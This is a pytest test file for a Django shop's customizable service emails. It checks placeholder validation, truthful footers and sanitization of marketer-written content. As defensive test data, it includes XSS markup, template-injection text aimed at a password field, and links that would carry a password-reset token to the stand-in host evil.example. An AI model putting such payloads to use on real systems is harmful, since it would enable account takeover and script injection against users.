"""Words: built in as files, replaced by the marketers' own, with a closed list of placeholders."""

import re

import pytest
from django.core.exceptions import ValidationError

from cms.models import ServiceMessage
from forked_apps.communication import placeholders, wording
from forked_apps.communication.events import EVENTS
from forked_apps.communication.rendering import render

pytestmark = pytest.mark.django_db


def published(event="welcome", **words) -> ServiceMessage:
    message = ServiceMessage.objects.get(event=event)
    for name, value in words.items():
        setattr(message, name, value)
    message.save_revision().publish()
    message.refresh_from_db()
    return message


@pytest.mark.parametrize("event", EVENTS)
def test_built_in_words_use_only_known_placeholders_and_compile(event):
    words = wording.built_in(event)
    texts = (words.subject, words.preheader, words.heading, words.body, words.button)
    placeholders.check(*texts, known=EVENTS[event].placeholders)
    rendered = render(event=event, context={"customer": {"name": "Ada"}, "link": "https://shop.example.com/x"})
    assert rendered.subject
    assert ("Hello Ada," in rendered.text) is not event.endswith("_staff")
    assert rendered.html.count("<h1") == 1
    hosts = set(re.findall(r'(?:src|href)="https?://([^/":]+)', rendered.html))
    assert hosts <= {"localhost", "shop.example.com"}  # no third party learns of the mail


@pytest.mark.parametrize(
    ("event", "reason"),
    [
        ("order_placed", "because of your account or an order at Counterfoil"),
        ("order_placed_staff", "has named this address for news of its orders"),
        ("payment_held_staff", "has named this address for news of its orders"),
        ("subscription_confirmation", "this address was entered for news of Counterfoil"),
    ],
)
def test_the_foot_says_truly_why_the_mail_came(event, reason):  # newcomer: who asked for news has no account or order
    rendered = render(event=event, context={"customer": {"name": "Ada"}, "link": "https://shop.example.com/x"})
    assert reason in rendered.text
    assert reason in rendered.html


def test_marketers_words_replace_the_built_in_ones_until_they_are_unpublished():
    message = published(subject="Hej {customer.name}", body="<p>Glad you came.</p>")
    assert render(event="welcome", context={"customer": {"name": "Ada"}}).subject == "Hej Ada"
    message.unpublish()
    assert render(event="welcome", context={}).subject == "Welcome to Counterfoil"


def test_template_syntax_from_staff_is_text():
    published(body="<p>{{ user.password }} {% include 'x' %}</p>")
    rendered = render(event="welcome", context={"customer": {"name": "Ada"}, "user": {"password": "secret-hash"}})
    assert "{{ user.password }} {% include" in rendered.text
    assert "secret-hash" not in rendered.html


def test_markup_that_could_act_is_cleaned_away():
    published(body='<p onclick="x()">Hi<script>alert(1)</script><a href="javascript:alert(1)">here</a></p>')
    html = render(event="welcome", context={}).html
    assert "alert(1)" not in html
    assert "onclick" not in html


def test_an_unknown_placeholder_is_refused_by_name():
    message = ServiceMessage(event="welcome", subject="{order.number}", heading="x", body="<p>{user.password}</p>")
    with pytest.raises(ValidationError, match=r"\{order\.number\}, \{user\.password\}"):
        message.clean()


@pytest.mark.parametrize("address", ["https://evil.example/?t={link}", "https://evil.example/?t=&#123;link&#125;"])
def test_no_words_carry_the_readers_secret_to_another_address(address):
    # 3.1: a marketer's words in the mail for a forgotten password took its link along to whom they liked
    body = f'<p><a href="{address}">Set a new password</a> <a href="{{link}}">or here</a></p>'
    with pytest.raises(ValidationError, match="part of another address"):
        published("password_reset", body=body)
    ServiceMessage.objects.filter(event="password_reset").update(body=body, live=True)  # as published before the check

    html = render(event="password_reset", context={"link": "https://shop.example.com/SECRET"}).html

    assert "evil.example" not in html
    assert 'href="https://shop.example.com/SECRET"' in html


def test_what_is_no_secret_may_stand_in_an_address():
    tracking = "https://carrier.example/?number={shipment.tracking_number}"
    message = published("order_shipped", body=f'<p><a href="{tracking}">Where is it?</a></p>')
    message.full_clean()
    context = {"shipment": {"tracking_number": "XY1"}}
    assert "https://carrier.example/?number=XY1" in render(event="order_shipped", context=context).html
